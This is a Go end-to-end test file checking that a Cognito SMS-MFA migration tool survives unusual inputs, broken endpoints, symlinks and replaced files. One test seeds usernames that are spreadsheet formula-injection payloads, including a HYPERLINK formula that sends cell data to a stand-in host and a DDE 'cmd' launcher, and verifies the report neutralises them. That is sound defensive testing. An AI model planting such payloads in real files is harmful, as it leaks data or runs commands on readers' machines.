package main

// End-to-end tests of the worst cases (issue 10, DESIGN.md "Round 2"):
// valid but unusual inputs, broken endpoints, symlinks, permissions and
// replaced files, each against the built binary. README "Guarantees" lists
// them.

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"net"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/cognito-mfa-migrate/cognito-mfa-migrate/checkpoint"
	"github.com/cognito-mfa-migrate/cognito-mfa-migrate/job"
	"github.com/cognito-mfa-migrate/cognito-mfa-migrate/job/cognitotest"
)

// legacyUser is a user whose SMS MFA was set through AdminSetUserSettings:
// the run must migrate it.
func legacyUser(name string) cognitotest.User {
	return cognitotest.User{
		Username:   name,
		Attributes: map[string]string{"phone_number": "+14155550100"},
		Enabled:    true,
		MFAOptions: []cognitotest.MFAOption{{DeliveryMedium: "SMS", AttributeName: "phone_number"}},
	}
}

// emptyFixture is a fixture with an empty pool; tests add their own users.
func emptyFixture(t *testing.T) *fixture {
	t.Helper()
	srv := cognitotest.NewServer()
	t.Cleanup(srv.Close)
	f := &fixture{srv: srv, dir: t.TempDir()}
	f.input = filepath.Join(f.dir, "users.csv")
	f.env = isolatedEnv(t, f.dir)
	return f
}

func (f *fixture) addUsers(t *testing.T, pool string, users ...cognitotest.User) {
	t.Helper()
	for _, u := range users {
		if err := f.srv.AddUser(pool, u); err != nil {
			t.Fatal(err)
		}
	}
}

// reportByUser parses the report and indexes it by username.
func reportByUser(t *testing.T, path string) map[string]job.ReportRow {
	t.Helper()
	out := map[string]job.ReportRow{}
	for _, r := range parseReport(t, readFile(t, path)) {
		out[r.Username] = r
	}
	return out
}

// TestWorstImportCSVQuoted (item 1): a Cognito import CSV written the RFC
// 4180 way (Python's csv module, a spreadsheet) is read correctly: every
// user in it is migrated, none is invalid_input or not_found.
func TestWorstImportCSVQuoted(t *testing.T) {
	t.Parallel()
	f := emptyFixture(t)
	names := []string{"comma,user", `quote"user`, "plain", `back\slash`}
	for _, n := range names {
		f.addUsers(t, cognitotest.DefaultPoolID, legacyUser(n))
	}
	writeFile(t, f.input, []byte("cognito:username,name,email,cognito:mfa_enabled\n"+
		`"comma,user","Comma, C.",c@example.com,FALSE`+"\n"+
		`"quote""user",,q@example.com,FALSE`+"\n"+
		`plain,"Plain ""P""",p@example.com,FALSE`+"\n"+
		`back\slash,,b@example.com,FALSE`+"\n"))
	p, code := f.exec(t, time.Minute, f.runArgs("--read-rps", "0", "--write-rps", "0")...)
	if code != 0 {
		t.Fatalf("exit code = %d, want 0; stderr:\n%s", code, p.stderr.tail())
	}
	rows := reportByUser(t, f.reportPath())
	for _, n := range names {
		if r := rows[n]; r.Outcome != "migrated" {
			t.Errorf("report row of %q = %+v, want migrated", n, r)
		}
		if u, _ := f.srv.User(cognitotest.DefaultPoolID, n); !u.SMSEnabled {
			t.Errorf("user %q: SMS MFA not enabled after the run", n)
		}
	}
}

// TestWorstInputReplacedDuringRun (item 2): an input replaced (mv over it)
// during a run is noticed: the run does not write a report naming the wrong
// users and exits 2 saying the input changed.
func TestWorstInputReplacedDuringRun(t *testing.T) {
	t.Parallel()
	f := newFixture(t, 200)
	p := f.start(t, f.runArgs("--read-rps", "100", "--write-rps", "100")...)
	waitUntil(t, p, time.Minute, "20 reads", func() bool { return f.srv.Calls(opRead) >= 20 })
	// The same users in another order: a report built from it would name
	// the wrong user on most rows.
	other := append([]cognitotest.Seed(nil), f.seeds...)
	for i, j := 0, len(other)-1; i < j; i, j = i+1, j-1 {
		other[i], other[j] = other[j], other[i]
	}
	tmp := filepath.Join(f.dir, "users.csv.new")
	writeFile(t, tmp, usersCSV(other))
	if err := os.Rename(tmp, f.input); err != nil {
		t.Fatal(err)
	}
	code := p.wait(t, time.Minute)
	if code != 2 || !strings.Contains(p.messages(), "the input changed during the run") {
		t.Fatalf("exit code = %d, want 2 and a message that the input changed; stderr:\n%s", code, p.stderr.tail())
	}
	if _, err := os.Stat(f.reportPath()); err == nil {
		t.Errorf("a report was written from the replaced input")
	}
	// A resume with the new file is refused too (the checkpoint is the old
	// file's).
	if p, code := f.exec(t, time.Minute, f.runArgs()...); code == 0 {
		t.Errorf("resume with the replaced input: exit code 0; stderr:\n%s", p.stderr.tail())
	}
}

// TestWorstExportOfAnotherPool (item 3): an export names its pool, and run
// refuses it for another pool, naming both, before any call.
func TestWorstExportOfAnotherPool(t *testing.T) {
	t.Parallel()
	const poolA, poolB = "us-east-1_PoolA", "us-east-1_PoolB"
	srv := cognitotest.NewServer(cognitotest.WithPool(poolA), cognitotest.WithPool(poolB))
	t.Cleanup(srv.Close)
	f := &fixture{srv: srv, dir: t.TempDir()}
	f.env = isolatedEnv(t, f.dir)
	for _, pool := range []string{poolA, poolB} {
		f.addUsers(t, pool, legacyUser("alice"), legacyUser("bob"))
	}
	out := filepath.Join(f.dir, "a.csv")
	if p, code := f.exec(t, time.Minute, "export", "--user-pool-id", poolA, "--output", out, "--endpoint-url", srv.URL,
		"--progress", "none", "--log-format", "json"); code != 0 {
		t.Fatalf("export exit code = %d; stderr:\n%s", code, p.stderr.tail())
	}
	p, code := f.exec(t, time.Minute, "run", "--user-pool-id", poolB, "--input", out, "--endpoint-url", srv.URL,
		"--progress", "none", "--log-format", "json")
	msg := p.messages()
	if code != 2 || !strings.Contains(msg, poolA) || !strings.Contains(msg, poolB) {
		t.Fatalf("run of pool A's export on pool B: exit code %d, want 2 naming both pools; stderr:\n%s", code, p.stderr.tail())
	}
	if w := srv.Calls(opWrite); w != 0 {
		t.Errorf("%d writes made, want none", w)
	}
	if u, _ := srv.User(poolB, "alice"); u.SMSEnabled {
		t.Errorf("pool B's user was migrated from pool A's export")
	}
}

// hungListener accepts connections and never answers.
func hungListener(t *testing.T) string {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	var conns []net.Conn
	done := make(chan struct{})
	go func() {
		defer close(done)
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			conns = append(conns, c) // held open, never answered
		}
	}()
	t.Cleanup(func() {
		ln.Close()
		<-done
		for _, c := range conns {
			c.Close()
		}
	})
	return "http://" + ln.Addr().String()
}

// closedPort returns a loopback URL where nothing listens.
func closedPort(t *testing.T) string {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	addr := ln.Addr().String()
	ln.Close()
	return "http://" + addr
}

// TestWorstHungEndpoint (item 4): a Cognito endpoint that accepts
// connections and never answers ends the run with exit 1 naming it
// (--call-timeout retries each attempt, --stall-timeout stops the run),
// instead of hanging forever.
func TestWorstHungEndpoint(t *testing.T) {
	t.Parallel()
	f := newFixture(t, 20)
	hung := hungListener(t)
	// Set through the environment, so that a binary without the flags
	// shows the hang rather than a usage error.
	f.env = append(f.env, "COGNITO_MFA_MIGRATE_CALL_TIMEOUT=200ms", "COGNITO_MFA_MIGRATE_STALL_TIMEOUT=2s")
	for _, preflight := range []bool{true, false} {
		// With the preflight (a first run), its calls meet the endpoint
		// first (call timeout); without it, the run's own calls do (stall
		// detection): neither hangs.
		args := f.runArgs()
		if !preflight {
			args = append(args, "--no-preflight")
		}
		for i, a := range args {
			if a == f.srv.URL {
				args[i] = hung
			}
		}
		p, code := f.exec(t, time.Minute, args...)
		msg := p.messages()
		want := strings.TrimPrefix(hung, "http://")
		if preflight {
			want = "no answer within the call timeout"
		}
		if code != 1 || !strings.Contains(msg, want) || !strings.Contains(msg, "no answer") {
			t.Fatalf("preflight %v: exit code = %d, want 1 saying %q; stderr:\n%s", preflight, code, want, p.stderr.tail())
		}
	}
}

// TestWorstHungS3 (item 4): an S3 endpoint that never answers cannot hang
// the lock step: each attempt times out and the run stops with exit 1.
func TestWorstHungS3(t *testing.T) {
	t.Parallel()
	f := newFixture(t, 5)
	hung := hungListener(t)
	f.env = append(f.env, "COGNITO_MFA_MIGRATE_CALL_TIMEOUT=200ms")
	// --no-preflight: the run's own lock step meets the endpoint (the
	// preflight would meet it first, also bounded).
	p, code := f.exec(t, time.Minute, f.runArgs("--checkpoint", "s3://"+e2eBucket+"/users.checkpoint",
		"--s3-endpoint-url", hung, "--no-preflight")...)
	if code != 1 || !strings.Contains(p.messages(), "lock") {
		t.Fatalf("exit code = %d, want 1 from the lock step; stderr:\n%s", code, p.stderr.tail())
	}
	if n := f.srv.Calls(""); n != 0 {
		t.Errorf("%d Cognito calls made without a lock", n)
	}
}

// TestWorstRefusedEndpoint (item 4): a connection refused on the first calls
// is fatal at once, with a fix, for a run and a dry run; no user is
// recorded failed and the dry run reports no cost.
func TestWorstRefusedEndpoint(t *testing.T) {
	t.Parallel()
	for _, dry := range []bool{false, true} {
		t.Run(fmt.Sprintf("dry-run=%v", dry), func(t *testing.T) {
			t.Parallel()
			f := newFixture(t, 50)
			closed := closedPort(t)
			args := func(preflight bool) []string {
				a := f.runArgs()
				if !preflight {
					a = append(a, "--no-preflight") // the run's own first calls
				}
				if dry {
					a = append(a, "--dry-run")
				}
				for i := range a {
					if a[i] == f.srv.URL {
						a[i] = closed
					}
				}
				return a
			}
			start := time.Now()
			p, code := f.exec(t, time.Minute, args(false)...)
			msg := p.messages()
			if code != 1 || !strings.Contains(msg, "refused") || !strings.Contains(msg, "fix:") {
				t.Fatalf("exit code = %d, want 1 with the refused endpoint and a fix; stderr:\n%s", code, p.stderr.tail())
			}
			if el := time.Since(start); el > 20*time.Second {
				t.Errorf("took %v: a refused endpoint should stop the run at once", el)
			}
			if strings.Contains(msg, `"failed"`) && strings.Contains(p.stderr.String(), `"failed":50`) {
				t.Errorf("every user recorded failed")
			}
			// With the preflight, its own first call meets the endpoint.
			p, code = f.exec(t, time.Minute, args(true)...)
			if code != 1 || !strings.Contains(p.messages(), "refused") {
				t.Errorf("with the preflight: exit code = %d, want 1 saying the endpoint refused; stderr:\n%s", code, p.stderr.tail())
			}
		})
	}
}

// TestWorstFIFOInput (item 5): a FIFO with no writer, or a process
// substitution, is refused at once with exit 2 saying why; it never blocks.
func TestWorstFIFOInput(t *testing.T) {
	t.Parallel()
	f := newFixture(t, 5)
	fifo := filepath.Join(f.dir, "users.fifo")
	if err := syscall.Mkfifo(fifo, 0o600); err != nil {
		t.Skipf("mkfifo: %v", err)
	}
	p, code := f.exec(t, 20*time.Second, f.runArgs("--input", fifo)...)
	if code != 2 || !strings.Contains(p.messages(), "named pipe") {
		t.Fatalf("exit code = %d, want 2 saying the input is a named pipe; stderr:\n%s", code, p.stderr.tail())
	}
}

// TestWorstOutputModes (item 6): the report, the summary and the export are
// created 0600, whatever --no-mask says, and a mode the operator set is
// kept on rewrite.
func TestWorstOutputModes(t *testing.T) {
	t.Parallel()
	f := newFixture(t, 30)
	fast := f.runArgs("--read-rps", "0", "--write-rps", "0", "--no-mask")
	if p, code := f.exec(t, time.Minute, fast...); code != 0 && code != 3 {
		t.Fatalf("exit code = %d; stderr:\n%s", code, p.stderr.tail())
	}
	summary := filepath.Join(f.dir, "users.summary.json")
	for _, path := range []string{f.reportPath(), summary, f.checkpointPath()} {
		if m := mode(t, path); m != 0o600 {
			t.Errorf("%s: mode %o, want 600", filepath.Base(path), m)
		}
	}
	if err := os.Chmod(f.reportPath(), 0o640); err != nil {
		t.Fatal(err)
	}
	if p, code := f.exec(t, time.Minute, fast...); code != 0 && code != 3 {
		t.Fatalf("second run: exit code = %d; stderr:\n%s", code, p.stderr.tail())
	}
	if m := mode(t, f.reportPath()); m != 0o640 {
		t.Errorf("report mode after a rewrite = %o, want the operator's 640 kept", m)
	}
	out := filepath.Join(f.dir, "export.csv")
	if p, code := f.exec(t, time.Minute, "export", "--user-pool-id", cognitotest.DefaultPoolID, "--output", out,
		"--endpoint-url", f.srv.URL, "--progress", "none"); code != 0 {
		t.Fatalf("export: exit code = %d; stderr:\n%s", code, p.stderr.tail())
	}
	if m := mode(t, out); m != 0o600 {
		t.Errorf("export mode %o, want 600", m)
	}
}

func mode(t *testing.T, path string) os.FileMode {
	t.Helper()
	fi, err := os.Stat(path)
	if err != nil {
		t.Fatal(err)
	}
	return fi.Mode().Perm()
}

// TestWorstFormulaInjection (item 7): usernames a spreadsheet would run as
// formulas are neutralised in the report; the export keeps them as they are
// (the tool reads it back).
func TestWorstFormulaInjection(t *testing.T) {
	t.Parallel()
	f := emptyFixture(t)
	names := []string{`=HYPERLINK("http://x/?"&A1,"y")`, `+cmd|'/C/calc'!A0`, `@SUM(1+1)`, `-1+1`}
	for _, n := range names {
		f.addUsers(t, cognitotest.DefaultPoolID, legacyUser(n))
	}
	out := filepath.Join(f.dir, "users.csv")
	if p, code := f.exec(t, time.Minute, "export", "--user-pool-id", cognitotest.DefaultPoolID, "--output", out,
		"--endpoint-url", f.srv.URL, "--progress", "none"); code != 0 {
		t.Fatalf("export: exit code = %d; stderr:\n%s", code, p.stderr.tail())
	}
	export := string(readFile(t, out))
	if p, code := f.exec(t, time.Minute, f.runArgs("--read-rps", "0", "--write-rps", "0")...); code != 0 {
		t.Fatalf("run: exit code = %d; stderr:\n%s", code, p.stderr.tail())
	}
	rows := reportByUser(t, f.reportPath())
	for _, n := range names {
		r, ok := rows["'"+n]
		if !ok || r.Outcome != "migrated" {
			t.Errorf("report: no migrated row with the neutralised username '%s; rows: %v", n, rows)
		}
		if _, ok := rows[n]; ok {
			t.Errorf("report holds the username %q verbatim", n)
		}
		if !strings.Contains(export, n) && !strings.Contains(export, strings.ReplaceAll(n, `"`, `""`)) {
			t.Errorf("export does not hold %q as it is", n)
		}
	}
}

// TestWorstSymlinks (item 8): a lock file that is a symbolic link is refused
// and its target left untouched; a dangling symlink at the checkpoint path
// is refused as a link (not "another run created it first"); a symlink to a
// checkpoint is never replaced.
func TestWorstSymlinks(t *testing.T) {
	t.Parallel()
	t.Run("lock file", func(t *testing.T) {
		t.Parallel()
		f := newFixture(t, 5)
		victim := filepath.Join(f.dir, "victim.txt")
		writeFile(t, victim, []byte("precious\n"))
		if err := os.Symlink(victim, f.checkpointPath()+".lock"); err != nil {
			t.Fatal(err)
		}
		p, code := f.exec(t, time.Minute, f.runArgs()...)
		if code != 1 || !strings.Contains(p.messages(), "symbolic link") {
			t.Errorf("exit code = %d, want 1 refusing the symbolic link; stderr:\n%s", code, p.stderr.tail())
		}
		if got := string(readFile(t, victim)); got != "precious\n" {
			t.Errorf("victim.txt = %q, want it untouched", got)
		}
	})
	t.Run("dangling checkpoint", func(t *testing.T) {
		t.Parallel()
		f := newFixture(t, 5)
		if err := os.Symlink(filepath.Join(f.dir, "nowhere"), f.checkpointPath()); err != nil {
			t.Fatal(err)
		}
		p, code := f.exec(t, time.Minute, f.runArgs()...)
		msg := p.messages()
		if code != 1 || !strings.Contains(msg, "symbolic link") || strings.Contains(msg, "created it first") {
			t.Errorf("exit code = %d, want 1 refusing the symbolic link; stderr:\n%s", code, p.stderr.tail())
		}
		if n := f.srv.Calls(opWrite); n != 0 {
			t.Errorf("%d writes made", n)
		}
	})
	t.Run("link to a checkpoint", func(t *testing.T) {
		t.Parallel()
		f := newFixture(t, 5)
		real := filepath.Join(f.dir, "real.checkpoint")
		if p, code := f.exec(t, time.Minute, f.runArgs("--checkpoint", real, "--max-users", "2")...); code != 4 {
			t.Fatalf("first run: exit code %d, want 4; stderr:\n%s", code, p.stderr.tail())
		}
		before := readFile(t, real)
		if err := os.Symlink(real, f.checkpointPath()); err != nil {
			t.Fatal(err)
		}
		p, code := f.exec(t, time.Minute, f.runArgs()...)
		if code != 1 || !strings.Contains(p.messages(), "symbolic link") {
			t.Errorf("exit code = %d, want 1 refusing the symbolic link; stderr:\n%s", code, p.stderr.tail())
		}
		if fi, err := os.Lstat(f.checkpointPath()); err != nil || fi.Mode()&os.ModeSymlink == 0 {
			t.Errorf("the link was replaced: %v, %v", fi, err)
		}
		if !bytes.Equal(readFile(t, real), before) {
			t.Errorf("the linked checkpoint was changed")
		}
	})
}

// TestWorstLeftovers (item 9): temporary files a killed run left (report,
// summary, checkpoint, input scan) are removed by the next run, files that
// are not ours are not; a checkpoint deleted between runs is refused,
// naming --reset.
func TestWorstLeftovers(t *testing.T) {
	t.Parallel()
	f := newFixture(t, 30)
	ours := []string{
		filepath.Join(f.dir, ".users.report.csv.tmp-123"),
		filepath.Join(f.dir, ".users.summary.json.tmp-456"),
		filepath.Join(f.dir, "users.checkpoint.tmp-789"),
	}
	notOurs := filepath.Join(f.dir, "users.report.csv.bak")
	for _, p := range append(ours, notOurs) {
		writeFile(t, p, []byte("alice\n"))
	}
	// The scan folder of a process that is gone (the pid of a finished
	// child), and one of a live process (this one).
	dead := exec1(t)
	deadScan := filepath.Join(f.dir, fmt.Sprintf("cognito-mfa-migrate-scan-%d-1", dead))
	liveScan := filepath.Join(f.dir, fmt.Sprintf("cognito-mfa-migrate-scan-%d-1", os.Getpid()))
	for _, d := range []string{deadScan, liveScan} {
		if err := os.Mkdir(d, 0o700); err != nil {
			t.Fatal(err)
		}
	}
	fast := f.runArgs("--read-rps", "0", "--write-rps", "0")
	if p, code := f.exec(t, time.Minute, fast...); code != 0 && code != 3 {
		t.Fatalf("exit code = %d; stderr:\n%s", code, p.stderr.tail())
	}
	for _, p := range append(ours, deadScan) {
		if _, err := os.Lstat(p); err == nil {
			t.Errorf("%s is still there", filepath.Base(p))
		}
	}
	for _, p := range []string{notOurs, liveScan} {
		if _, err := os.Lstat(p); err != nil {
			t.Errorf("%s was removed: %v", filepath.Base(p), err)
		}
	}

	// The checkpoint deleted between runs: refused, naming --reset.
	if err := os.Remove(f.checkpointPath()); err != nil {
		t.Fatal(err)
	}
	writes := f.srv.Calls(opWrite)
	p, code := f.exec(t, time.Minute, fast...)
	if code != 1 || !strings.Contains(p.messages(), "--reset") {
		t.Errorf("run without its checkpoint: exit code %d, want 1 naming --reset; stderr:\n%s", code, p.stderr.tail())
	}
	if n := f.srv.Calls(opWrite) - writes; n != 0 {
		t.Errorf("%d writes made by the refused run", n)
	}
	if p, code := f.exec(t, time.Minute, append(fast, "--reset")...); code != 0 && code != 3 {
		t.Errorf("run with --reset: exit code %d; stderr:\n%s", code, p.stderr.tail())
	}
}

// exec1 runs a short child process and returns its pid, which no process
// has once it has been reaped.
func exec1(t *testing.T) int {
	t.Helper()
	p, err := os.StartProcess("/bin/sh", []string{"sh", "-c", "exit 0"}, &os.ProcAttr{})
	if err != nil {
		t.Skipf("start a child: %v", err)
	}
	if _, err := p.Wait(); err != nil {
		t.Fatal(err)
	}
	return p.Pid
}

// TestWorstS3LockTakeover (item 9): taking over an expired S3 lock is
// logged, naming the previous holder.
func TestWorstS3LockTakeover(t *testing.T) {
	t.Parallel()
	f := newFixture(t, 10)
	s := newFakeS3(t)
	s.put(t, "users.csv", usersCSV(f.seeds))
	expired, _ := json.Marshal(checkpoint.LockInfo{Owner: "crashed-host pid 1 run x", Acquired: time.Now().Add(-time.Hour), Expires: time.Now().Add(-time.Minute)})
	s.put(t, "users.checkpoint.lock", expired)
	p, code := f.exec(t, time.Minute, s.s3Args(f, "--read-rps", "0", "--write-rps", "0")...)
	if code != 0 && code != 3 {
		t.Fatalf("exit code = %d; stderr:\n%s", code, p.stderr.tail())
	}
	if msg := p.messages(); !strings.Contains(msg, "took over an expired checkpoint lock") || !strings.Contains(msg, "crashed-host pid 1 run x") {
		t.Errorf("no log of the takeover naming the previous holder; stderr:\n%s", p.stderr.tail())
	}
}

// TestWorstEmptyExport (item 11): an export of a pool with nothing to
// migrate is a valid input: run exits 0, says so, writes the summary.
func TestWorstEmptyExport(t *testing.T) {
	t.Parallel()
	f := emptyFixture(t)
	u := legacyUser("modern")
	u.MFAOptions, u.SMSEnabled = nil, true
	f.addUsers(t, cognitotest.DefaultPoolID, u)
	if p, code := f.exec(t, time.Minute, "export", "--user-pool-id", cognitotest.DefaultPoolID, "--output", f.input,
		"--endpoint-url", f.srv.URL, "--progress", "none"); code != 0 {
		t.Fatalf("export: exit code = %d; stderr:\n%s", code, p.stderr.tail())
	}
	for range 2 { // and again: the schedule runs it every night
		p, code := f.exec(t, time.Minute, f.runArgs()...)
		if code != 0 || !strings.Contains(p.messages(), "nothing to migrate") {
			t.Fatalf("run: exit code = %d, want 0 saying nothing to migrate; stderr:\n%s", code, p.stderr.tail())
		}
		var sum job.Summary
		if err := json.Unmarshal(readFile(t, filepath.Join(f.dir, "users.summary.json")), &sum); err != nil || sum.Rows != 0 || sum.ExitCode != 0 {
			t.Errorf("summary = %+v, %v; want 0 rows, exit code 0", sum, err)
		}
	}
}

// TestWorstSmallOnes (item 12): a ragged row keeps its username in the
// report; --max-duration 1ns is refused; --verify and --read-all may be
// added on resume; a second runner is refused before scanning the input.
func TestWorstSmallOnes(t *testing.T) {
	t.Parallel()
	t.Run("ragged row", func(t *testing.T) {
		t.Parallel()
		f := emptyFixture(t)
		f.addUsers(t, cognitotest.DefaultPoolID, legacyUser("alice"))
		writeFile(t, f.input, []byte("username,email\nalice,a@example.com\nbob,b@example.com,extra\n"))
		if p, code := f.exec(t, time.Minute, f.runArgs("--read-rps", "0", "--write-rps", "0")...); code != 0 {
			t.Fatalf("exit code = %d; stderr:\n%s", code, p.stderr.tail())
		}
		rows := parseReport(t, readFile(t, f.reportPath()))
		if len(rows) != 2 || rows[1].Username != "bob" || rows[1].Outcome != "invalid_input" {
			t.Errorf("report = %+v, want bob's ragged row invalid_input with its username", rows)
		}
	})
	t.Run("max-duration 1ns", func(t *testing.T) {
		t.Parallel()
		f := newFixture(t, 5)
		if p, code := f.exec(t, time.Minute, f.runArgs("--max-duration", "1ns")...); code != 2 || !strings.Contains(p.messages(), "--max-duration") {
			t.Errorf("exit code = %d, want 2 refusing --max-duration 1ns; stderr:\n%s", code, p.stderr.tail())
		}
	})
	t.Run("verify added on resume", func(t *testing.T) {
		t.Parallel()
		f := newFixture(t, 40)
		if p, code := f.exec(t, time.Minute, f.runArgs("--read-rps", "0", "--write-rps", "0", "--max-users", "10")...); code != 4 {
			t.Fatalf("first slice: exit code = %d, want 4; stderr:\n%s", code, p.stderr.tail())
		}
		if p, code := f.exec(t, time.Minute, f.runArgs("--read-rps", "0", "--write-rps", "0", "--verify", "--read-all")...); code != 0 && code != 3 {
			t.Fatalf("resume with --verify --read-all: exit code = %d, want 0 or 3; stderr:\n%s", code, p.stderr.tail())
		}
		f.checkUsers(t)
	})
	t.Run("lock before scan", func(t *testing.T) {
		t.Parallel()
		f := newFixture(t, 5)
		lock, err := checkpoint.NewFile(f.checkpointPath()).Lock(context.Background(), "holder in the test", time.Minute)
		if err != nil {
			t.Fatal(err)
		}
		defer lock.Release(context.Background())
		p, code := f.exec(t, time.Minute, f.runArgs()...)
		if code != 1 || !strings.Contains(p.messages(), "holder in the test") {
			t.Fatalf("exit code = %d, want 1 naming the holder; stderr:\n%s", code, p.stderr.tail())
		}
		if strings.Contains(p.messages(), "input scanned") {
			t.Errorf("the input was scanned before the lock was refused")
		}
	})
}

// TestWorstUnwritableReport (DESIGN, "Files we read and write"): a report
// location that cannot be written is found before the first call (by the
// preflight run makes), not after the whole run.
func TestWorstUnwritableReport(t *testing.T) {
	t.Parallel()
	f := newFixture(t, 20)
	notDir := filepath.Join(f.dir, "not-a-folder")
	writeFile(t, notDir, []byte("x"))
	p, code := f.exec(t, time.Minute, f.runArgs("--report", filepath.Join(notDir, "report.csv"))...)
	if code == 0 || code == 3 || code == 4 || !strings.Contains(p.messages(), "--report") {
		t.Errorf("exit code = %d, want a refusal naming --report; stderr:\n%s", code, p.stderr.tail())
	}
	if n := f.srv.Calls(""); n != 0 {
		t.Errorf("%d calls made before the unwritable report was noticed", n)
	}
}
